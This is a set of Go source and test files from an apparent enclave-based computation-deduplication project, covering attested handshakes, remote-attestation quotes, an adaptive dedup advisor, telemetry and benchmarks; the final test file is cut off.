	errCh := make(chan error, 1)
	go func() {
		_, err := ServerHandshake(sConn, store, func(enclave.Measurement) bool { return false })
		errCh <- err
		sConn.Close()
	}()
	_, _ = ClientHandshake(cConn, app, store.Measurement())
	if err := <-errCh; !errors.Is(err, ErrPeerRejected) {
		t.Errorf("ServerHandshake = %v, want ErrPeerRejected", err)
	}
}

func TestClientHandshakeRejectsWrongServer(t *testing.T) {
	p := enclave.NewPlatform(enclave.Config{})
	app, _ := p.Create("app", []byte("app code"))
	store, _ := p.Create("store", []byte("store code"))
	var wrong enclave.Measurement
	wrong[0] = 0xFF

	cConn, sConn := net.Pipe()
	go func() {
		// The real store answers, but the client expected a different
		// measurement.
		_, _ = ServerHandshake(sConn, store, nil)
		sConn.Close()
	}()
	_, err := ClientHandshake(cConn, app, wrong)
	if err == nil {
		t.Error("ClientHandshake accepted a server with the wrong measurement")
	}
}

func TestHandshakeRejectsCrossPlatform(t *testing.T) {
	// An attacker on a different machine (platform) cannot complete the
	// attested handshake even with identical code.
	p1 := enclave.NewPlatform(enclave.Config{})
	p2 := enclave.NewPlatform(enclave.Config{})
	app, _ := p1.Create("app", []byte("app code"))
	store, _ := p2.Create("store", []byte("store code"))

	cConn, sConn := net.Pipe()
	errCh := make(chan error, 1)
	go func() {
		_, err := ServerHandshake(sConn, store, nil)
		errCh <- err
		sConn.Close()
	}()
	_, cerr := ClientHandshake(cConn, app, store.Measurement())
	serr := <-errCh
	if cerr == nil && serr == nil {
		t.Error("cross-platform handshake unexpectedly succeeded")
	}
}
