package logengine

import (
	"fmt"
	"testing"

	"speed/internal/enclave"
	"speed/internal/mle"
	storeengine "speed/internal/store/engine"
)

// BenchmarkHotLogMemtableGet is the log engine's hot read path: the
// requested record is memtable-resident, so the lookup never touches a
// segment file. This is the common case for a freshly warmed store and
// the path `make bench-regress` pins against bench/baseline.txt.
func BenchmarkHotLogMemtableGet(b *testing.B) {
	p := enclave.NewPlatform(enclave.Config{})
	enc, err := p.Create("bench-store", []byte("store code"))
	if err != nil {
		b.Fatalf("Create: %v", err)
	}
	e, err := Open(Config{
		Dir:             b.TempDir(),
		Enclave:         enc,
		MemtableBytes:   64 << 20, // everything stays memtable-resident
		Fsync:           FsyncNone,
		CompactInterval: -1,
	})
	if err != nil {
		b.Fatalf("Open: %v", err)
	}
	defer e.Close()

	const n = 512
	tags := make([]mle.Tag, n)
	for i := range tags {
		tags[i] = tagOf(fmt.Sprintf("bench-%d", i))
		rec := recOf(fmt.Sprintf("value-%d", i))
		if ok, err := e.Insert(tags[i], rec); err != nil || !ok {
			b.Fatalf("Insert: %v %v", ok, err)
		}
	}

	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		_, status, err := e.Get(tags[i%n])
		if err != nil || status != storeengine.StatusHit {
			b.Fatalf("Get = %v, %v", status, err)
		}
	}
}
