// Persistentcache: demonstrates the extension features — controlled
// deduplication (deny-by-default authorization), sealed snapshots that
// survive a process "restart" on the same machine, and adaptive
// deduplication that learns to bypass the store for functions where
// deduplication does not pay.
package main

import (
	"fmt"
	"os"
	"strings"

	"speed"
	"speed/internal/compress"
)

func main() {
	if err := run(); err != nil {
		fmt.Fprintln(os.Stderr, "persistentcache:", err)
		os.Exit(1)
	}
}

const machineSeed = "rack42-node7" // the machine's identity (fused key analogue)

func newSystem() (*speed.System, error) {
	return speed.NewSystemWithConfig(speed.SystemConfig{
		PlatformSeed:  []byte(machineSeed),
		DenyByDefault: true, // controlled deduplication
	})
}

func newApp(sys *speed.System) (*speed.App, *speed.Deduplicable[[]byte, []byte], *speed.Deduplicable[string, string], error) {
	app, err := sys.NewAppWithConfig("compress-service", []byte("compress service v5"), speed.AppConfig{
		Adaptive:           true,
		AdaptiveMinSamples: 5,
	})
	if err != nil {
		return nil, nil, nil, err
	}
	// Grant this (attested) application access to the store.
	sys.Authorize(app.Measurement(), true, true)
	app.RegisterLibrary("zlib", "1.2.11", []byte("zlib code"))

	deflate, err := speed.NewDeduplicable(app,
		speed.FuncDesc{Library: "zlib", Version: "1.2.11", Signature: "deflate(bytes)"},
		func(b []byte) ([]byte, error) { return compress.Compress(b), nil },
		speed.WithInputCodec[[]byte, []byte](speed.BytesCodec{}),
		speed.WithOutputCodec[[]byte, []byte](speed.BytesCodec{}),
	)
	if err != nil {
		return nil, nil, nil, err
	}
	// A trivially cheap function the adaptive advisor should learn to
	// bypass.
	upper, err := speed.NewDeduplicable(app,
		speed.FuncDesc{Library: "zlib", Version: "1.2.11", Signature: "toupper(string)"},
		func(s string) (string, error) { return strings.ToUpper(s), nil },
		speed.WithInputCodec[string, string](speed.StringCodec{}),
		speed.WithOutputCodec[string, string](speed.StringCodec{}),
	)
	if err != nil {
		return nil, nil, nil, err
	}
	return app, deflate, upper, nil
}

func run() error {
	// ---- First "process lifetime" ----
	sys1, err := newSystem()
	if err != nil {
		return err
	}
	app1, deflate1, upper1, err := newApp(sys1)
	if err != nil {
		return err
	}

	doc := []byte(strings.Repeat("all work and no play makes jack a dull boy. ", 4000))
	fmt.Println("lifetime 1: compressing 3 documents (all fresh)")
	for i := 0; i < 3; i++ {
		input := append([]byte(fmt.Sprintf("doc-%d:", i)), doc...)
		if _, outcome, err := deflate1.CallOutcome(input); err != nil {
			return err
		} else {
			fmt.Printf("  doc %d: %v\n", i, outcome)
		}
	}

	// The cheap function, called on distinct inputs: the advisor
	// learns to bypass it.
	for i := 0; i < 30; i++ {
		if _, err := upper1.Call(fmt.Sprintf("request-%d", i)); err != nil {
			return err
		}
	}
	if report, ok := upper1.AdaptiveReport(); ok {
		fmt.Printf("adaptive: toupper bypassed=%v (compute %.3fms vs overhead %.3fms, hit rate %.0f%%)\n",
			report.Bypassed, report.ComputeMS, report.OverheadMS, report.HitRate*100)
	}

	// Snapshot before "shutdown".
	snapshot, err := sys1.SealSnapshot()
	if err != nil {
		return err
	}
	if err := app1.Close(); err != nil {
		return err
	}
	sys1.Close()
	fmt.Printf("lifetime 1 ended; sealed snapshot: %d bytes\n\n", len(snapshot))

	// ---- Second "process lifetime" on the same machine ----
	sys2, err := newSystem()
	if err != nil {
		return err
	}
	defer sys2.Close()
	restored, err := sys2.RestoreSnapshot(snapshot)
	if err != nil {
		return err
	}
	fmt.Printf("lifetime 2: restored %d entries from snapshot\n", restored)

	app2, deflate2, _, err := newApp(sys2)
	if err != nil {
		return err
	}
	defer app2.Close()

	fmt.Println("lifetime 2: compressing the same 3 documents")
	for i := 0; i < 3; i++ {
		input := append([]byte(fmt.Sprintf("doc-%d:", i)), doc...)
		if _, outcome, err := deflate2.CallOutcome(input); err != nil {
			return err
		} else {
			fmt.Printf("  doc %d: %v\n", i, outcome)
		}
	}
	fmt.Printf("\nlifetime 2 stats: %+v\n", app2.Stats())
	fmt.Printf("store: %+v\n", sys2.StoreStats())
	return nil
}
