package dedup

import (
	"sync"
	"time"

	"speed/internal/mle"
)

// This file implements the paper's stated future direction: "an
// automatic extension to enable the application to adjust its
// deduplication strategy via dynamic analyzing the underlying
// computations during its runtime" (Section VII).
//
// The Advisor profiles each marked function online — compute cost,
// dedup-path cost, hit rate — and decides per function whether going
// through the store is worthwhile. Fast functions whose compute time is
// below the dedup overhead (the compression/BoW end of Fig. 5) are
// executed directly once enough evidence accumulates; slow functions
// (SIFT, pattern matching) keep deduplicating.

// AdaptivePolicy tunes the Advisor. The zero value is not usable; use
// DefaultAdaptivePolicy.
type AdaptivePolicy struct {
	// MinSamples is how many observations of each kind are needed
	// before the Advisor may bypass deduplication.
	MinSamples int
	// BenefitThreshold is the required expected-benefit ratio: dedup
	// stays enabled while
	//   hitRate*computeCost > BenefitThreshold*dedupOverhead.
	BenefitThreshold float64
	// Probation is how many calls a bypassed function waits before the
	// Advisor re-evaluates it (workloads change: a function may become
	// worth deduplicating when its inputs start repeating).
	Probation int
	// Alpha is the exponential-moving-average weight for new samples.
	Alpha float64
}

// DefaultAdaptivePolicy returns sensible defaults.
func DefaultAdaptivePolicy() AdaptivePolicy {
	return AdaptivePolicy{
		MinSamples:       8,
		BenefitThreshold: 1.0,
		Probation:        64,
		Alpha:            0.2,
	}
}

// funcProfile is the online profile of one marked function.
type funcProfile struct {
	computeEMA  float64 // ns, EMA of observed compute cost
	overheadEMA float64 // ns, EMA of dedup-path overhead (tag+get+crypto)
	hits        int64
	misses      int64
	samples     int

	bypassed      bool
	bypassCalls   int
	bypassedSince time.Time
}

func (p *funcProfile) hitRate() float64 {
	total := p.hits + p.misses
	if total == 0 {
		return 0
	}
	return float64(p.hits) / float64(total)
}

// Advisor profiles marked functions and advises the runtime whether to
// deduplicate each call. Safe for concurrent use.
type Advisor struct {
	policy AdaptivePolicy

	mu       sync.Mutex
	profiles map[mle.FuncID]*funcProfile
}

// NewAdvisor creates an Advisor with the given policy; zero fields take
// defaults.
func NewAdvisor(policy AdaptivePolicy) *Advisor {
	d := DefaultAdaptivePolicy()
	if policy.MinSamples == 0 {
		policy.MinSamples = d.MinSamples
	}
	if policy.BenefitThreshold == 0 {
		policy.BenefitThreshold = d.BenefitThreshold
	}
	if policy.Probation == 0 {
		policy.Probation = d.Probation
	}
	if policy.Alpha == 0 {
		policy.Alpha = d.Alpha
	}
	return &Advisor{
		policy:   policy,
		profiles: make(map[mle.FuncID]*funcProfile),
	}
}

func (a *Advisor) profile(id mle.FuncID) *funcProfile {
	p, ok := a.profiles[id]
	if !ok {
		p = &funcProfile{}
		a.profiles[id] = p
	}
	return p
}

// ShouldDedup reports whether the next call of the function should go
// through the deduplication path.
func (a *Advisor) ShouldDedup(id mle.FuncID) bool {
	a.mu.Lock()
	defer a.mu.Unlock()
	p := a.profile(id)
	if !p.bypassed {
		return true
	}
	p.bypassCalls++
	if p.bypassCalls >= a.policy.Probation {
		// Probation over: give deduplication another chance.
		p.bypassed = false
		p.bypassCalls = 0
		return true
	}
	return false
}

// ObserveDedup records a deduplicated call: whether it hit, the
// measured compute cost (zero on hits) and the dedup-path overhead.
func (a *Advisor) ObserveDedup(id mle.FuncID, hit bool, computeCost, overhead time.Duration) {
	a.mu.Lock()
	defer a.mu.Unlock()
	p := a.profile(id)
	p.samples++
	if hit {
		p.hits++
	} else {
		p.misses++
		p.computeEMA = ema(p.computeEMA, float64(computeCost.Nanoseconds()), a.policy.Alpha)
	}
	p.overheadEMA = ema(p.overheadEMA, float64(overhead.Nanoseconds()), a.policy.Alpha)

	if p.samples < a.policy.MinSamples || p.computeEMA == 0 {
		return
	}
	// Expected benefit per call: on a hit we save (compute - overhead);
	// on a miss we pay overhead on top. Dedup is worthwhile while
	// hitRate*compute exceeds the overhead (scaled by the threshold).
	expectedBenefit := p.hitRate() * p.computeEMA
	if expectedBenefit < a.policy.BenefitThreshold*p.overheadEMA {
		p.bypassed = true
		p.bypassCalls = 0
		p.bypassedSince = time.Now()
	}
}

// ObserveBypass records a direct (non-deduplicated) execution, keeping
// the compute-cost estimate fresh while bypassed.
func (a *Advisor) ObserveBypass(id mle.FuncID, computeCost time.Duration) {
	a.mu.Lock()
	defer a.mu.Unlock()
	p := a.profile(id)
	p.computeEMA = ema(p.computeEMA, float64(computeCost.Nanoseconds()), a.policy.Alpha)
}

func ema(cur, sample, alpha float64) float64 {
	if cur == 0 {
		return sample
	}
	return (1-alpha)*cur + alpha*sample
}

// FuncReport is a snapshot of one function's adaptive profile.
type FuncReport struct {
	// ComputeMS and OverheadMS are the EMA estimates in milliseconds.
	ComputeMS, OverheadMS float64
	// HitRate is the observed store hit rate.
	HitRate float64
	// Samples counts observed deduplicated calls.
	Samples int
	// Bypassed reports whether the Advisor currently bypasses
	// deduplication for this function.
	Bypassed bool
}

// Report returns the Advisor's current view of a function.
func (a *Advisor) Report(id mle.FuncID) FuncReport {
	a.mu.Lock()
	defer a.mu.Unlock()
	p := a.profile(id)
	return FuncReport{
		ComputeMS:  p.computeEMA / 1e6,
		OverheadMS: p.overheadEMA / 1e6,
		HitRate:    p.hitRate(),
		Samples:    p.samples,
		Bypassed:   p.bypassed,
	}
}

// ExecuteAdaptive is Execute with the Advisor in the loop: when the
// Advisor decides deduplication does not pay for this function, the
// computation runs directly in the enclave with no store interaction.
func (rt *Runtime) ExecuteAdaptive(a *Advisor, id mle.FuncID, input []byte, compute func([]byte) ([]byte, error)) ([]byte, Outcome, error) {
	if a == nil || a.ShouldDedup(id) {
		// Time the computation separately from the whole call so the
		// dedup overhead (tag, store round trip, crypto) is isolated.
		var computeCost time.Duration
		wrapped := func(in []byte) ([]byte, error) {
			cstart := time.Now()
			out, cerr := compute(in)
			computeCost = time.Since(cstart)
			return out, cerr
		}
		start := time.Now()
		result, outcome, err := rt.Execute(id, input, wrapped)
		if err != nil {
			return nil, 0, err
		}
		if a != nil {
			total := time.Since(start)
			if outcome == OutcomeReused {
				a.ObserveDedup(id, true, 0, total)
			} else {
				overhead := total - computeCost
				if overhead < 0 {
					overhead = 0
				}
				a.ObserveDedup(id, false, computeCost, overhead)
			}
		}
		return result, outcome, err
	}

	// Bypass: plain in-enclave execution.
	var result []byte
	start := time.Now()
	err := rt.cfg.Enclave.ECall(func() error {
		res, cerr := compute(input)
		result = res
		return cerr
	})
	if err != nil {
		return nil, 0, err
	}
	a.ObserveBypass(id, time.Since(start))
	rt.mu.Lock()
	rt.stats.Calls++
	rt.stats.Computed++
	rt.mu.Unlock()
	return result, OutcomeComputed, nil
}
