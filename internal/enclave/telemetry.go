package enclave

import "speed/internal/telemetry"

// RegisterTelemetry registers the enclave's transition and paging
// counters with reg, labelled by the enclave's diagnostic name. The
// counters read the Metrics snapshot on demand, so the ECall/OCall hot
// path stays untouched. A nil registry is a no-op.
func (e *Enclave) RegisterTelemetry(reg *telemetry.Registry) {
	if reg == nil {
		return
	}
	lbl := telemetry.L("enclave", e.name)
	for _, c := range []struct {
		name, help string
		field      func(Metrics) int64
	}{
		{"speed_enclave_ecalls_total", "world switches into the enclave", func(m Metrics) int64 { return m.ECalls }},
		{"speed_enclave_ocalls_total", "world switches out of the enclave", func(m Metrics) int64 { return m.OCalls }},
		{"speed_enclave_page_faults_total", "EPC page faults incurred by allocations", func(m Metrics) int64 { return m.PageFaults }},
		{"speed_enclave_alloc_bytes_total", "cumulative protected-heap bytes allocated", func(m Metrics) int64 { return m.AllocBytes }},
	} {
		field := c.field
		reg.NewCounterFunc(c.name, c.help, func() int64 { return field(e.Metrics()) }, lbl)
	}
	reg.NewGaugeFunc("speed_enclave_heap_bytes", "current protected-heap consumption",
		func() float64 { return float64(e.HeapUsed()) }, lbl)
}

// RegisterTelemetry registers the platform's EPC occupancy gauge with
// reg. A nil registry is a no-op.
func (p *Platform) RegisterTelemetry(reg *telemetry.Registry) {
	if reg == nil {
		return
	}
	reg.NewGaugeFunc("speed_platform_epc_used_bytes",
		"EPC bytes in use across all enclaves on the platform",
		func() float64 { return float64(p.EPCUsed()) })
}
