package enclave

import (
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/hmac"
	"crypto/rand"
	"crypto/sha256"
	"crypto/x509"
	"encoding/binary"
	"errors"
	"fmt"
	"io"
	"math/big"
)

// Remote attestation. The paper (Section II-B) notes that SGX supports
// two attestation forms: the local intra-platform assertion (Report /
// VerifyReport in attest.go) and a remote form in which "an enclave of
// a particular remote device [presents] reliable evidence about the
// running code". This file models the remote form: the platform owns
// an ECDSA P-256 attestation key (the analogue of the EPID/DCAP key
// provisioned by Intel), enclaves obtain Quotes — signed statements
// binding their measurement and caller data — and remote verifiers
// check quotes against a set of trusted platform attestation keys (the
// analogue of the Intel attestation service's root of trust).

// ErrQuoteVerification is returned when a quote fails verification or
// its platform is not trusted.
var ErrQuoteVerification = errors.New("enclave: quote verification failed")

// Quote is a remotely verifiable attestation statement.
type Quote struct {
	// Measurement identifies the quoted enclave's code.
	Measurement Measurement
	// Data carries caller-supplied bytes (e.g. a key-exchange public
	// key), up to 64 bytes.
	Data [64]byte
	// PlatformKey is the quoting platform's attestation public key in
	// PKIX DER form; the verifier checks it against its trust set.
	PlatformKey []byte
	// Sig is the ASN.1 ECDSA signature over the quote digest.
	Sig []byte
}

// AttestationPublicKey returns the platform's attestation public key
// (PKIX DER), to be registered with remote verifiers out of band —
// the analogue of provisioning with the attestation service.
func (p *Platform) AttestationPublicKey() []byte {
	return p.attestPub
}

// Quote produces a remote attestation quote over data for this
// enclave.
func (e *Enclave) Quote(data []byte) (Quote, error) {
	q := Quote{Measurement: e.measurement, PlatformKey: e.platform.attestPub}
	copy(q.Data[:], data)
	digest := quoteDigest(q.Measurement, q.Data)
	sig, err := ecdsa.SignASN1(rand.Reader, e.platform.attestPriv, digest[:])
	if err != nil {
		return Quote{}, fmt.Errorf("enclave: sign quote: %w", err)
	}
	q.Sig = sig
	return q, nil
}

// VerifyQuote checks the quote's signature and that its platform key
// is in trustedKeys. On success the caller may trust q.Measurement and
// q.Data as coming from an enclave on a trusted platform.
func VerifyQuote(q Quote, trustedKeys [][]byte) error {
	trusted := false
	for _, k := range trustedKeys {
		if hmac.Equal(k, q.PlatformKey) {
			trusted = true
			break
		}
	}
	if !trusted {
		return fmt.Errorf("%w: platform not trusted", ErrQuoteVerification)
	}
	pubAny, err := x509.ParsePKIXPublicKey(q.PlatformKey)
	if err != nil {
		return fmt.Errorf("%w: bad platform key", ErrQuoteVerification)
	}
	pub, ok := pubAny.(*ecdsa.PublicKey)
	if !ok {
		return fmt.Errorf("%w: platform key is not ECDSA", ErrQuoteVerification)
	}
	digest := quoteDigest(q.Measurement, q.Data)
	if !ecdsa.VerifyASN1(pub, digest[:], q.Sig) {
		return fmt.Errorf("%w: bad signature", ErrQuoteVerification)
	}
	return nil
}

func quoteDigest(m Measurement, data [64]byte) [32]byte {
	h := sha256.New()
	h.Write([]byte("speed/quote/v1\x00"))
	h.Write(m[:])
	h.Write(data[:])
	var out [32]byte
	h.Sum(out[:0])
	return out
}

// Marshal serialises the quote.
func (q Quote) Marshal() []byte {
	buf := make([]byte, 0, 32+64+8+len(q.PlatformKey)+len(q.Sig))
	buf = append(buf, q.Measurement[:]...)
	buf = append(buf, q.Data[:]...)
	buf = binary.BigEndian.AppendUint32(buf, uint32(len(q.PlatformKey)))
	buf = append(buf, q.PlatformKey...)
	buf = binary.BigEndian.AppendUint32(buf, uint32(len(q.Sig)))
	buf = append(buf, q.Sig...)
	return buf
}

// UnmarshalQuote parses the wire form produced by Marshal.
func UnmarshalQuote(b []byte) (Quote, error) {
	var q Quote
	if len(b) < 32+64+4 {
		return q, errors.New("enclave: malformed quote")
	}
	copy(q.Measurement[:], b[:32])
	b = b[32:]
	copy(q.Data[:], b[:64])
	b = b[64:]
	readBytes := func() ([]byte, error) {
		if len(b) < 4 {
			return nil, errors.New("enclave: malformed quote")
		}
		n := binary.BigEndian.Uint32(b)
		b = b[4:]
		if uint64(n) > uint64(len(b)) {
			return nil, errors.New("enclave: malformed quote")
		}
		v := b[:n:n]
		b = b[n:]
		return v, nil
	}
	var err error
	if q.PlatformKey, err = readBytes(); err != nil {
		return q, err
	}
	if q.Sig, err = readBytes(); err != nil {
		return q, err
	}
	if len(b) != 0 {
		return q, errors.New("enclave: malformed quote")
	}
	return q, nil
}

// initAttestationKey populates the platform's ECDSA attestation key,
// deterministically when a PlatformSeed is set.
func (p *Platform) initAttestationKey() {
	var priv *ecdsa.PrivateKey
	if len(p.cfg.PlatformSeed) > 0 {
		// crypto/ecdsa deliberately randomizes GenerateKey even with a
		// deterministic reader, so derive the scalar ourselves: the
		// platform's key must be stable across restarts like the fused
		// key of real hardware.
		priv = deterministicP256Key(newSeededReader(p.platformKey[:]))
	} else {
		var err error
		priv, err = ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
		if err != nil {
			panic(fmt.Sprintf("enclave: attestation key generation: %v", err))
		}
	}
	pub, err := x509.MarshalPKIXPublicKey(&priv.PublicKey)
	if err != nil {
		panic(fmt.Sprintf("enclave: attestation key marshal: %v", err))
	}
	p.attestPriv = priv
	p.attestPub = pub
}

// deterministicP256Key derives a P-256 private key from the byte
// stream: rejection-sample a scalar in [1, N) and compute its public
// point.
func deterministicP256Key(rnd io.Reader) *ecdsa.PrivateKey {
	curve := elliptic.P256()
	n := curve.Params().N
	buf := make([]byte, 32)
	for {
		if _, err := io.ReadFull(rnd, buf); err != nil {
			panic(fmt.Sprintf("enclave: deterministic key stream: %v", err))
		}
		d := new(big.Int).SetBytes(buf)
		if d.Sign() <= 0 || d.Cmp(n) >= 0 {
			continue
		}
		priv := &ecdsa.PrivateKey{D: d}
		priv.Curve = curve
		priv.X, priv.Y = curve.ScalarBaseMult(d.Bytes())
		return priv
	}
}

// seededReader is a deterministic byte stream derived from a seed via
// HMAC-SHA-256 in counter mode, used only to derive the deterministic
// attestation key for seeded platforms.
type seededReader struct {
	seed    []byte
	counter uint64
	buf     []byte
}

func newSeededReader(seed []byte) *seededReader {
	return &seededReader{seed: append([]byte(nil), seed...)}
}

func (r *seededReader) Read(p []byte) (int, error) {
	n := 0
	for n < len(p) {
		if len(r.buf) == 0 {
			mac := hmac.New(sha256.New, r.seed)
			var ctr [8]byte
			binary.BigEndian.PutUint64(ctr[:], r.counter)
			r.counter++
			mac.Write(ctr[:])
			r.buf = mac.Sum(nil)
		}
		c := copy(p[n:], r.buf)
		r.buf = r.buf[c:]
		n += c
	}
	return n, nil
}
