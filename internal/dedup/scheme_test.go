package dedup

import (
	"sync"
	"testing"
	"time"

	"speed/internal/enclave"
	"speed/internal/mle"
	"speed/internal/store"
)

// The basic single-key design (Section III-B) only interoperates when
// applications agree on the key in advance — the brittleness the paper
// rejects. Two apps with DIFFERENT keys cannot share results: the
// second app sees the entry, fails verification, and recomputes.
func TestSingleKeyMismatchForcesRecompute(t *testing.T) {
	p := enclave.NewPlatform(enclave.Config{})
	storeEnc, err := p.Create("store", []byte("store code"))
	if err != nil {
		t.Fatalf("create store: %v", err)
	}
	st, err := store.New(store.Config{Enclave: storeEnc})
	if err != nil {
		t.Fatalf("store.New: %v", err)
	}

	mkApp := func(name string, key [16]byte) *Runtime {
		enc, err := p.Create(name, []byte(name))
		if err != nil {
			t.Fatalf("create %s: %v", name, err)
		}
		rt, err := NewRuntime(Config{
			Enclave: enc,
			Client:  NewLocalClient(st, enc.Measurement()),
			Scheme:  mle.NewSingleKey(key, nil),
			Logf:    func(string, ...any) {},
		})
		if err != nil {
			t.Fatalf("NewRuntime: %v", err)
		}
		t.Cleanup(func() { _ = rt.Close() })
		rt.Registry().RegisterLibrary("lib", "1", []byte("lib code"))
		return rt
	}

	var keyA, keyB [16]byte
	copy(keyA[:], "aaaaaaaaaaaaaaaa")
	copy(keyB[:], "bbbbbbbbbbbbbbbb")
	rtA := mkApp("appA", keyA)
	rtB := mkApp("appB", keyB)

	id, err := rtA.Resolve(FuncDesc{Library: "lib", Version: "1", Signature: "f"})
	if err != nil {
		t.Fatalf("Resolve: %v", err)
	}
	input := []byte("shared input")
	compute := func([]byte) ([]byte, error) { return []byte("result"), nil }

	if _, _, err := rtA.Execute(id, input, compute); err != nil {
		t.Fatalf("A Execute: %v", err)
	}
	// B finds A's entry but cannot decrypt it: recompute, not reuse.
	res, outcome, err := rtB.Execute(id, input, compute)
	if err != nil {
		t.Fatalf("B Execute: %v", err)
	}
	if outcome != OutcomeRecomputed {
		t.Errorf("B outcome = %v, want recomputed (key mismatch)", outcome)
	}
	if string(res) != "result" {
		t.Errorf("B result = %q", res)
	}
	if got := rtB.Stats().VerifyFailures; got != 1 {
		t.Errorf("B VerifyFailures = %d, want 1", got)
	}

	// With the RCE scheme the same scenario reuses fine — the whole
	// point of Section III-C.
	rtC, rtD := mkAppRCE(t, p, st, "appC"), mkAppRCE(t, p, st, "appD")
	idC, err := rtC.Resolve(FuncDesc{Library: "lib", Version: "1", Signature: "g"})
	if err != nil {
		t.Fatalf("Resolve: %v", err)
	}
	if _, _, err := rtC.Execute(idC, input, compute); err != nil {
		t.Fatalf("C Execute: %v", err)
	}
	if _, outcome, err := rtD.Execute(idC, input, compute); err != nil || outcome != OutcomeReused {
		t.Errorf("D over RCE = (%v, %v), want reused", outcome, err)
	}
}

func mkAppRCE(t *testing.T, p *enclave.Platform, st *store.Store, name string) *Runtime {
	t.Helper()
	enc, err := p.Create(name, []byte(name))
	if err != nil {
		t.Fatalf("create %s: %v", name, err)
	}
	rt, err := NewRuntime(Config{
		Enclave: enc,
		Client:  NewLocalClient(st, enc.Measurement()),
		Logf:    func(string, ...any) {},
	})
	if err != nil {
		t.Fatalf("NewRuntime: %v", err)
	}
	t.Cleanup(func() { _ = rt.Close() })
	rt.Registry().RegisterLibrary("lib", "1", []byte("lib code"))
	return rt
}

// The advisor must be safe under concurrent observation and queries.
func TestAdvisorConcurrent(t *testing.T) {
	a := NewAdvisor(AdaptivePolicy{MinSamples: 10, Probation: 5})
	var wg sync.WaitGroup
	for w := 0; w < 8; w++ {
		wg.Add(1)
		go func(w int) {
			defer wg.Done()
			id := testID(byte(w % 3))
			for i := 0; i < 200; i++ {
				if a.ShouldDedup(id) {
					a.ObserveDedup(id, i%2 == 0, time.Millisecond, 100*time.Microsecond)
				} else {
					a.ObserveBypass(id, time.Millisecond)
				}
				_ = a.Report(id)
			}
		}(w)
	}
	wg.Wait()
}

// Adaptive execution under concurrency must remain correct even while
// the advisor flips between dedup and bypass.
func TestExecuteAdaptiveConcurrent(t *testing.T) {
	env := newTestEnv(t, nil)
	id := env.funcID(t)
	advisor := NewAdvisor(AdaptivePolicy{MinSamples: 5, Probation: 10})

	var wg sync.WaitGroup
	for w := 0; w < 8; w++ {
		wg.Add(1)
		go func(w int) {
			defer wg.Done()
			for i := 0; i < 50; i++ {
				input := []byte{byte(i % 10)}
				res, _, err := env.runtime.ExecuteAdaptive(advisor, id, input, func(in []byte) ([]byte, error) {
					return []byte{in[0] * 2}, nil
				})
				if err != nil {
					t.Errorf("ExecuteAdaptive: %v", err)
					return
				}
				if len(res) != 1 || res[0] != input[0]*2 {
					t.Errorf("wrong result %v for input %v", res, input)
					return
				}
			}
		}(w)
	}
	wg.Wait()
}
