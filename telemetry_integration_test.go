package speed

import (
	"io"
	"net/http"
	"strings"
	"testing"
)

// TestAppMetricsEndpoint drives a deduplicable call through an App with
// a live metrics listener and asserts the full pipeline: phase
// histograms and outcome counters from the runtime, store counters from
// the shared System registry, and enclave transition counters — all on
// one /metrics page in Prometheus text format.
func TestAppMetricsEndpoint(t *testing.T) {
	sys := newTestSystem(t)
	app, err := sys.NewAppWithConfig("metered", []byte("metered code"), AppConfig{
		MetricsAddr:     "127.0.0.1:0",
		TraceSampleRate: 1,
	})
	if err != nil {
		t.Fatalf("NewAppWithConfig: %v", err)
	}
	t.Cleanup(func() { _ = app.Close() })
	app.RegisterLibrary("mathlib", "1.0", []byte("mathlib code"))

	square, err := NewDeduplicable(app, squareDesc, func(x int) (int, error) {
		return x * x, nil
	})
	if err != nil {
		t.Fatalf("NewDeduplicable: %v", err)
	}
	for i := 0; i < 3; i++ {
		if got, err := square.Call(9); err != nil || got != 81 {
			t.Fatalf("Call = (%d, %v), want 81", got, err)
		}
	}

	addr := app.MetricsAddr()
	if addr == "" {
		t.Fatal("MetricsAddr is empty despite AppConfig.MetricsAddr")
	}
	resp, err := http.Get("http://" + addr + "/metrics")
	if err != nil {
		t.Fatalf("GET /metrics: %v", err)
	}
	defer resp.Body.Close()
	body, err := io.ReadAll(resp.Body)
	if err != nil {
		t.Fatalf("read body: %v", err)
	}
	page := string(body)
	for _, want := range []string{
		"# TYPE speed_execute_seconds histogram",
		`speed_execute_seconds_count{app="metered",outcome="computed"} 1`,
		`speed_execute_seconds_count{app="metered",outcome="reused"} 2`,
		`speed_execute_phase_seconds_count{app="metered",phase="tag"} 3`,
		`speed_runtime_calls_total{app="metered"} 3`,
		"speed_store_gets_total 3",
		"speed_store_hits_total 2",
		`speed_enclave_ecalls_total{enclave="metered"}`,
		"speed_platform_epc_used_bytes",
	} {
		if !strings.Contains(page, want) {
			t.Errorf("/metrics missing %q", want)
		}
	}

	// The trace endpoint carries the sampled per-call phase spans.
	resp2, err := http.Get("http://" + addr + "/debug/trace")
	if err != nil {
		t.Fatalf("GET /debug/trace: %v", err)
	}
	defer resp2.Body.Close()
	trace, err := io.ReadAll(resp2.Body)
	if err != nil {
		t.Fatalf("read trace: %v", err)
	}
	for _, want := range []string{`"name": "execute"`, `"phases"`, `"tag"`} {
		if !strings.Contains(string(trace), want) {
			t.Errorf("/debug/trace missing %q in %s", want, trace)
		}
	}
}

// TestAppStatsEnclaveCounters pins the AppStats extension: enclave
// transition and paging counters ride along with the dedup counters.
func TestAppStatsEnclaveCounters(t *testing.T) {
	sys := newTestSystem(t)
	app := newTestApp(t, sys, "enclave-stats")
	square, err := NewDeduplicable(app, squareDesc, func(x int) (int, error) {
		return x * x, nil
	})
	if err != nil {
		t.Fatalf("NewDeduplicable: %v", err)
	}
	if _, err := square.Call(7); err != nil {
		t.Fatalf("Call: %v", err)
	}
	st := app.Stats()
	if st.ECalls == 0 {
		t.Errorf("AppStats.ECalls = 0, want > 0 after an Execute")
	}
	if st.OCalls == 0 {
		t.Errorf("AppStats.OCalls = 0, want > 0 (store GET/PUT are OCALLs)")
	}
	if st.AllocBytes < 0 || st.PageFaults < 0 {
		t.Errorf("negative enclave counters: %+v", st)
	}
}
