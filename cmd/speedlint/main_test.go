package main

import (
	"bytes"
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

func TestListAnalyzers(t *testing.T) {
	var stdout, stderr bytes.Buffer
	if code := run([]string{"-list"}, &stdout, &stderr); code != 0 {
		t.Fatalf("-list exited %d, stderr: %s", code, stderr.String())
	}
	out := stdout.String()
